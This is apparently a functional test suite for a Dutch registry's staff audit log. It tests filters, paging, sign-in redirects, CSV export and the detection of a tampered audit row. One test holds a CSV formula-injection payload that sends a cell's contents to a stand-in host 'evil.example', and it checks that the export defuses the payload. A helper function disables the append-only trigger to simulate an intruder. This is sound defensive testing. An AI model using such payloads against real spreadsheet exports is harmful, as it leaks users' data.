"""The audit log for staff through HTTP: filters, paging, CSV, the chain check; and `registry audit verify` on a tampered row."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import re
import sqlite3
from typing import Any

import asyncpg

from registry.admin.audit_log import ACTION_WORDS
from registry.roles import Role
from registry.services.audit import Actor, AuditAction
from registry.services.imports.plan import import_document
from registry.services.sql import reading
from registry.settings import Settings
from tests.conftest import BACKEND
from tests.functional.backup_support import registry_async
from tests.functional.helpers import document, encode
from tests.functional.staff import add_staff, browser, sign_in, staff_app

MARIEKE = Actor("user:marieke", Role.EDITOR, "192.0.2.44")
# 10 January 2026, 10:00 in the Netherlands: an import long before the sign-ins of the test itself.
LAST_WINTER = dt.datetime(2026, 1, 10, 9, 0, tzinfo=dt.timezone.utc)


def event_ids(html: str) -> list[int]:
    """Ids of the events in the page's table, top to bottom."""
    return [int(number) for number in re.findall(r'<tr id="gebeurtenis-(\d+)">', html)]


def rows_of(html: str) -> list[str]:
    """Each table row of events as its HTML."""
    return re.findall(r'<tr id="gebeurtenis-\d+">.*?</tr>', html, re.S)


def link(html: str, text: str) -> str | None:
    """The href of the link with this text."""
    found = re.search(rf'<a href="([^"]+)"[^>]*>{re.escape(text)}</a>', html)
    return found.group(1).replace("&amp;", "&") if found else None


async def ids_where(app: Any, condition: str = "1 = 1", *params: Any) -> list[int]:
    """Event ids in the database, newest first."""
    async with reading(app.state.api.engine) as reader:
        rows = await reader.fetch_all(f"SELECT id FROM audit_event WHERE {condition} ORDER BY id DESC", *params)
    return [row["id"] for row in rows]


async def test_each_filter_narrows_the_log_to_what_it_names(settings: Settings) -> None:
    async with staff_app(settings) as (app, viewer):
        await add_staff(app)
        await import_document(app.state.api.engine, encode(document()), MARIEKE, now=LAST_WINTER)
        assert (await sign_in(viewer, "viewer")).status_code == 303
        everything = await viewer.get("/admin/audit")
        assert everything.status_code == 200 and everything.headers["cache-control"] == "no-store"
        assert event_ids(everything.text) == await ids_where(app)
        assert '<th scope="col">Wanneer</th>' in everything.text and "<caption>" in everything.text
        assert "Besluit vastgelegd" in everything.text and "Ingelogd" in everything.text and "Programma aangemaakt" in everything.text
        assert 'href="/admin/programmas/P-000045"' in everything.text and 'href="/admin/coaches/C-000123"' in everything.text

        by_person = await viewer.get("/admin/audit", params={"persoon": "MARIE"})
        assert event_ids(by_person.text) == await ids_where(app, "actor = ?", "user:marieke") != []
        # People by name (marieke has no account here, so her username), what was done in words, raw fields behind a toggle.
        assert all("marieke" in row and "user:marieke" not in row and "redacteur" in row and "192.0.2.44" in row
                   for row in rows_of(by_person.text))
        decided = next(row for row in rows_of(everything.text) if "Besluit vastgelegd" in row)
        assert "<details>" in decided and "Kenmerk van het besluit" in decided
        assert event_ids((await viewer.get("/admin/audit", params={"persoon": "%"})).text) == []  # a wildcard is only a character

        by_subject = await viewer.get("/admin/audit", params={"soort": "programme", "code": "p-000045"})
        assert event_ids(by_subject.text) == await ids_where(app, "subject_kind = 'programme' AND subject_code = 'P-000045'")
        assert len(event_ids(by_subject.text)) == 2  # created, and its grant recorded
        created = next(row for row in rows_of(by_subject.text) if "Programma aangemaakt" in row)
        assert "contact_minutes" in created and "300" in created and "Samen Rookvrij" in created

        by_kind = await viewer.get("/admin/audit", params={"gebeurtenis": str(AuditAction.DECISION_RECORD)})
        assert len(event_ids(by_kind.text)) == 4
        assert all("Besluit vastgelegd" in row for row in rows_of(by_kind.text))

        winter = await viewer.get("/admin/audit", params={"van": "01-01-2026", "tot": "2026-01-10"})
        assert event_ids(winter.text) == await ids_where(app, "actor = ?", "user:marieke")
        assert "10 januari 2026 10:00" in winter.text  # Amsterdam time, an hour ahead of UTC in winter
        spring = await viewer.get("/admin/audit", params={"van": "11-01-2026"})
        assert event_ids(spring.text) == await ids_where(app, "actor <> ?", "user:marieke")
        nothing = await viewer.get("/admin/audit", params={"tot": "09-01-2026"})
        assert nothing.status_code == 200 and event_ids(nothing.text) == [] and "Er zijn geen gebeurtenissen" in nothing.text

        combined = await viewer.get("/admin/audit", params={"persoon": "viewer", "gebeurtenis": str(AuditAction.SESSION_START)})
        assert len(event_ids(combined.text)) == 1


async def test_viewers_read_the_log_and_strangers_are_sent_to_sign_in(settings: Settings) -> None:
    async with staff_app(settings) as (app, anonymous):
        await add_staff(app)
        for path in ("/admin/audit", "/admin/audit.csv", "/admin/audit/keten"):
            away = await anonymous.get(path)
            assert away.status_code == 303 and away.headers["location"].startswith("/admin/inloggen?terug=%2Fadmin%2Faudit")
        viewer = browser(app, "192.0.2.31")
        await sign_in(viewer, "viewer")
        page = await viewer.get("/admin/audit")
        assert page.status_code == 200 and 'href="/admin/audit" aria-current="page"' in page.text
        assert (await viewer.get("/admin/audit.csv")).status_code == 200
        assert (await viewer.get("/admin/audit/keten")).status_code == 200


async def test_bad_dates_are_field_errors_in_dutch(settings: Settings) -> None:
    async with staff_app(settings) as (app, editor):
        await add_staff(app)
        await sign_in(editor, "editor")
        not_a_day = await editor.get("/admin/audit", params={"van": "31-02-2026", "persoon": "jansen"})
        assert not_a_day.status_code == 400
        assert 'id="van-error"' in not_a_day.text and "Vul een bestaande datum in, bijvoorbeeld 14-03-2026." in not_a_day.text
        assert 'aria-invalid="true"' in not_a_day.text and 'value="jansen"' in not_a_day.text and event_ids(not_a_day.text) == []
        swapped = await editor.get("/admin/audit", params={"van": "10-03-2026", "tot": "01-03-2026"})
        assert swapped.status_code == 400 and "De van-datum ligt na de tot-en-met-datum." in swapped.text
        assert (await editor.get("/admin/audit", params={"tot": "gisteren"})).status_code == 400
        assert (await editor.get("/admin/audit", params={"gebeurtenis": "registry:everything:delete"})).status_code == 400
        assert (await editor.get("/admin/audit.csv", params={"van": "2026-13-01"})).status_code == 400


async def test_pages_of_fifty_go_back_in_time_and_forward_again(settings: Settings) -> None:
    many = [{"code": f"O-{number:06d}", "name": f"Praktijk {number}", "city": "Utrecht"} for number in range(1, 121)]
    async with staff_app(settings) as (app, viewer):
        await add_staff(app)
        await import_document(app.state.api.engine, encode({"organisations": many}), MARIEKE)
        await sign_in(viewer, "viewer")
        expected = await ids_where(app, "subject_kind = 'organisation'")
        assert len(expected) == 120
        seen: list[list[int]] = []
        url: str | None = "/admin/audit?soort=organisation"
        while url:
            page = await viewer.get(url)
            assert page.status_code == 200
            seen.append(event_ids(page.text))
            url = link(page.text, "Oudere gebeurtenissen")
            assert url is None or "soort=organisation" in url
        assert [len(ids) for ids in seen] == [50, 50, 20]
        assert [number for ids in seen for number in ids] == expected
        last = await viewer.get(f"/admin/audit?soort=organisation&voor={seen[2][0] + 1}")
        newer = link(last.text, "Nieuwere gebeurtenissen")
        assert newer and event_ids((await viewer.get(newer)).text) == seen[1]
        first = await viewer.get(link(last.text, "Nieuwste gebeurtenissen"))
        assert event_ids(first.text) == seen[0] and link(first.text, "Nieuwere gebeurtenissen") is None


async def test_csv_has_a_header_every_change_and_no_formulas(settings: Settings) -> None:
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")'
    organisations = [{"code": "O-000099", "name": formula, "city": "+31 Utrecht"}]
    async with staff_app(settings) as (app, viewer):
        await add_staff(app)
        await import_document(app.state.api.engine, encode(document(organisations=organisations, trainings=[], programmes=[],
                                                                    qualifications=[], decisions=[])), MARIEKE)
        await sign_in(viewer, "viewer")
        download = await viewer.get("/admin/audit.csv")
        assert download.status_code == 200 and download.headers["content-type"].startswith("text/csv")
        assert download.headers["content-disposition"].startswith('attachment; filename="auditlog-')
        assert download.content.startswith("\ufeff".encode())
        lines = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"))))
        assert lines[0] == ["event_id", "occurred_at", "actor", "actor_role", "action", "description", "subject_kind", "subject_code",
                            "source", "field", "before", "after"]
        assert {int(line[0]) for line in lines[1:]} == set(await ids_where(app))
        created = {line[9]: line for line in lines[1:] if line[7] == "O-000099"}
        assert created["name"][11] == "'" + formula and created["city"][11] == "'+31 Utrecht"
        assert created["name"][5] == "Organisatie aangemaakt" and created["name"][10] == ""
        assert not any(cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line)
        only_marieke = await viewer.get("/admin/audit.csv", params={"persoon": "marieke", "soort": "organisation"})
        rows = list(csv.reader(io.StringIO(only_marieke.content.decode("utf-8-sig"))))[1:]
        assert rows and {row[2] for row in rows} == {"user:marieke"} and {row[6] for row in rows} == {"organisation"}


def test_every_kind_of_event_has_words_for_staff() -> None:
    assert set(ACTION_WORDS) == set(AuditAction)


async def tamper(settings: Settings, event_id: int) -> None:
    """Change one audit row the way an intruder with database access would: past the append-only trigger."""
    url = settings.database_url
    if BACKEND == "postgresql":
        connection = await asyncpg.connect(url)
        try:
            await connection.execute("ALTER TABLE audit_event DISABLE TRIGGER audit_event_append_only")
            await connection.execute("UPDATE audit_event SET after_state = replace(after_state::text, 'Samen Rookvrij', 'Samen Rookvrij Plus')::json "
                                     "WHERE id = $1", event_id)
            await connection.execute("ALTER TABLE audit_event ENABLE TRIGGER audit_event_append_only")
        finally:
            await connection.close()
        return

    def tamper_sqlite() -> None:
        with sqlite3.connect(url[len("sqlite:///"):], timeout=30) as connection:
            connection.execute("DROP TRIGGER audit_event_no_update")
            connection.execute("UPDATE audit_event SET after_state = replace(after_state, 'Samen Rookvrij', 'Samen Rookvrij Plus') "
                               "WHERE id = ?", (event_id,))

    # In a thread: the app runs on this event loop, and a write of its own (a session touch, a rate-limit sync)
    # must be able to finish while this connection waits for the lock.
    await asyncio.to_thread(tamper_sqlite)


async def test_audit_verify_names_a_modified_event_and_so_does_the_chain_page(settings: Settings) -> None:
    async with staff_app(settings) as (app, viewer):
        await add_staff(app)
        await import_document(app.state.api.engine, encode(document()), MARIEKE)
        await sign_in(viewer, "viewer")
        [target] = await ids_where(app, "action = ?", str(AuditAction.PROGRAMME_CREATE))
        total = len(await ids_where(app))
        intact = await viewer.get("/admin/audit/keten")
        assert f"De keten is intact: {total} gebeurtenissen gecontroleerd." in intact.text
        # The command runs beside the app, which shares this event loop: wait for it without blocking the loop.
        assert (await registry_async(settings.database_url, "audit", "verify"))[0] == 0

        await tamper(settings, target)
        async with reading(app.state.api.engine) as reader:
            row = await reader.fetch_one("SELECT after_state FROM audit_event WHERE id = ?", target)
        assert "Samen Rookvrij Plus" in str(row["after_state"])

        code, out, err = await registry_async(settings.database_url, "audit", "verify")
        assert code != 0 and f"[{target}]" in err, (out, err)
        broken = await viewer.get("/admin/audit/keten")
        assert broken.status_code == 200 and "De keten is verbroken" in broken.text
        assert re.findall(r"<li>gebeurtenis (\d+)</li>", broken.text) == [str(target)]
